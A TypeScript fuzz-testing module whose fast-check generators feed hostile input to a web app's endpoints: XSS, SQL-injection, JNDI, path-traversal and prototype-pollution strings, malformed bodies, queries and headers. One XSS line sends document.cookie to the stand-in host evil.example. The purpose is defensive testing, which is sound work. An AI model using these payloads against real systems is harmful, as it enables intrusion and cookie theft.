import fc from 'fast-check';
import { isStorableText } from '#shared/schemas/fields.js';

/** Markup that would run if a page ever rendered it as HTML instead of text. */
export const HTML_PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "javascript:alert('x')",
  '<iframe src="https://evil.example/"></iframe>',
  '<a href="//evil.example">win</a>',
  '&lt;b&gt;bold&amp;&#x3C;',
  '</textarea><script>fetch("//evil.example?c="+document.cookie)</script>',
];

/** Injections that would change a query if any value were spliced into SQL. */
export const SQL_PAYLOADS = [
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  "Robert'); DROP TABLE saved_daycares;--",
  "1' UNION SELECT password_hash FROM users --",
  '1; SELECT pg_sleep(5) --',
  '" OR ""="',
  "\\'; --",
  '%',
  '_',
];

/** Template, path and format tricks, and Unicode that trips naive code. */
export const ODD_TEXT = [
  '${jndi:ldap://127.0.0.1/a}',
  '{{constructor.constructor("alert(1)")()}}',
  '${7*7}',
  '%s%s%n%x',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '\u202Egnp.exe',
  'zero\u200Bwidth\u200Djoin',
  'e\u0301\u0301\u0301',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  '𝕳𝖊𝖑𝖑𝖔',
  'ＡＢＣ１２３',
  'İıß',
  '\u2028line\u2029',
  'null',
  'undefined',
  '__proto__',
  'constructor',
];

/** Text no field may keep: NUL and other control characters, lone surrogates, direction overrides and invisible characters. */
export const UNSTORABLE_TEXT = [
  'a\u0000b', '\u0000', 'bell\u0007', 'esc\u001b[31m', '\uD800', 'x\uDFFFy', 'del\u007F',
  'Sunny\u202Eexe.gpj', 'iso\u2066late\u2069', 'zero\u200Bwidth', 'b\uFEFFom', 'word\u2060joiner',
];

const payloadText = fc.constantFrom(...HTML_PAYLOADS, ...SQL_PAYLOADS, ...ODD_TEXT);

/** Hostile text a field may legitimately hold: it must come back exactly as sent. */
export const storableHostileText = (maxLength: number): fc.Arbitrary<string> =>
  fc
    .oneof(
      payloadText,
      fc.tuple(payloadText, fc.string({ unit: 'grapheme', maxLength: 20 }), payloadText).map((parts) => parts.join('')),
      fc.string({ unit: 'grapheme', minLength: 1, maxLength: 40 }),
      fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }),
    )
    .map((text) => text.trim().slice(0, maxLength).trim())
    .filter((text) => text.length > 0 && isStorableText(text));

/** Any text an attacker might send, from payloads to control characters to megabytes. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: storableHostileText(300) },
  { weight: 2, arbitrary: fc.constantFrom(...UNSTORABLE_TEXT, '', ' ', '\t\n') },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 1, arbitrary: fc.constantFrom(301, 1_001, 5_001, 60_000, 200_000).map((length) => 'A'.repeat(length)) },
);

/** Values of the wrong type for any field. */
const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer(),
  fc.constantFrom(-1, 0, 1.5, 1e308, -1e308, Number.MAX_SAFE_INTEGER + 2),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.jsonValue({ maxDepth: 2 }), { maxLength: 5 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 4 }),
);

export const hostileValue: fc.Arbitrary<unknown> = fc.oneof({ weight: 3, arbitrary: hostileText }, { weight: 2, arbitrary: wrongType });

/** Query-string numbers that parse oddly or not at all. */
export const oddNumber = fc.constantFrom('1e309', '-1e309', '-0', 'NaN', 'Infinity', '0x1F', '1_000', ' 7 ', '١٢٣', '9'.repeat(400), '1.5', '-5', '');

/** Whole request bodies that are not the JSON object an endpoint wants. */
export const hostileBody: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '',
    '{',
    '}',
    '{"a":}',
    "{'a':1}",
    'NaN',
    '[1,]',
    '{"a":1}trailing',
    '\uFEFF{}',
    '\u0000',
    '{"__proto__":{"admin":true}}',
    '{"constructor":{"prototype":{"admin":true}}}',
    '{"a":1,"a":2}',
    '{"a":"\\ud800"}',
  ),
  fc.jsonValue({ maxDepth: 3 }).map((value) => JSON.stringify(value) ?? 'null'),
  // Deeply nested JSON: up to 20,000 levels, within and beyond the 100 KB body limit.
  fc
    .tuple(fc.integer({ min: 100, max: 20_000 }), fc.boolean())
    .map(([depth, arrays]) => (arrays ? '['.repeat(depth) + ']'.repeat(depth) : '{"a":'.repeat(depth) + '1' + '}'.repeat(depth))),
  fc.constantFrom(150_000, 2_000_000).map((length) => JSON.stringify({ text: 'x'.repeat(length) })),
);

export const oddContentType = fc.constantFrom(
  'text/plain',
  'text/html',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=x',
  'application/json; charset=utf-16',
  'application/json; charset=latin1',
  'application/xml',
  'application/json, text/html',
  'application/jsonx',
  '*/*',
  ';;;',
  'application/json; boundary="',
  'APPLICATION/JSON',
);

/** Raw query strings a broken client or a scanner sends, unescaped where that is the point. */
export const hostileQuery = fc.oneof(
  fc.constantFrom(
    '%',
    '%ZZ',
    '%E0%A4%A',
    '%ED%A0%80',
    '%C0%AF',
    '%FF%FE',
    '&&&',
    '=&=',
    '==',
    'a=%00',
    'a[]=1&a[]=2',
    'a[b][c]=1',
    '__proto__[admin]=1',
    'constructor[prototype][admin]=1',
    '__proto__=1',
    '?',
    ';a=1',
    '%u0041',
    '+'.repeat(100),
  ),
  fc.constantFrom(1_000, 50_000).map((length) => `q=${'x'.repeat(length)}`),
);

/** Header sets from scanners and broken clients; values stay in the bytes HTTP allows. */
export const hostileHeaders: fc.Arbitrary<Record<string, string>> = fc.oneof(
  fc.constantFrom<Record<string, string>>(
    { authorization: 'Bearer' },
    { authorization: 'Bearer ' },
    { authorization: 'Bearer a.b.c' },
    { authorization: 'Bearer ..' },
    { authorization: 'Basic Zm9vOmJhcg==' },
    { authorization: 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4IiwidXNlcklkIjoieCJ9.' },
    { authorization: `Bearer ${'a'.repeat(8_000)}.${'b'.repeat(8_000)}.${'c'.repeat(8_000)}` },
    { authorization: "Bearer ' OR '1'='1" },
    // Shaped like a provider's feed token, which routes taking one look up by its hash.
    { authorization: `Bearer crf_${'a'.repeat(8_000)}` },
    { authorization: "Bearer crf_'OR'1'='1'--" },
    { 'accept-encoding': 'br;q=abc, gzip;q=-1, *;q=2' },
    { 'content-encoding': 'gzip' },
    { 'content-encoding': 'br, deflate, zstd' },
    { accept: '*/*;q=x, text/html;level=%' },
    { 'x-forwarded-for': "1.2.3.4, <script>, ' OR 1=1" },
    { 'x-forwarded-proto': 'javascript' },
    { 'x-forwarded-host': 'evil.example' },
    { origin: 'https://evil.example' },
    { origin: 'null' },
    { range: `bytes=${'0-1,'.repeat(500)}0-1` },
    { 'if-none-match': `"${'x'.repeat(1000)}"` },
    { cookie: `session=${'x'.repeat(30_000)}` },
    { 'user-agent': 'A'.repeat(60_000) },
    { 'accept-language': `${'en-US;q=0.9,'.repeat(2000)}` },
    // Registration keeps a language from this header, and account emails are written in it.
    { 'accept-language': '*' },
    { 'accept-language': 'fr-CA' },
    { 'accept-language': '' },
    { 'accept-language': 'es;q=abc, en;q=2, ;;;,' },
    { 'accept-language': `${'es-US;q=0.001,'.repeat(2000)}` },
  ),
  fc.dictionary(
    fc.stringMatching(/^x-[a-z0-9-]{1,20}$/),
    fc.string({ unit: fc.constantFrom(...' !"#$%&\'()*+,-./0123456789:;<=>?@AZaz[\\]^_`{|}~'), maxLength: 200 }),
    { maxKeys: 5 },
  ),
);

/** A path segment: percent-encoded hostile text, or a raw segment that is malformed on purpose. */
export const hostileSegment: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: hostileText.map(percentEncode) },
  {
    weight: 1,
    arbitrary: fc.constantFrom('%ZZ', '%', '%00', '..', '%2e%2e', '%2F', 'a/b', '', '.', '~', '%ED%A0%80', 'x'.repeat(150)),
  },
);

export const unexpectedMethod = fc.constantFrom('GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS');

/** UTF-8 percent-encoding of everything but unreserved characters (a lone surrogate becomes U+FFFD). */
export function percentEncode(text: string): string {
  let encoded = '';
  for (const byte of Buffer.from(text, 'utf8')) {
    const char = String.fromCharCode(byte);
    encoded += /[A-Za-z0-9\-_.~]/.test(char) ? char : `%${byte.toString(16).toUpperCase().padStart(2, '0')}`;
  }
  return encoded;
}
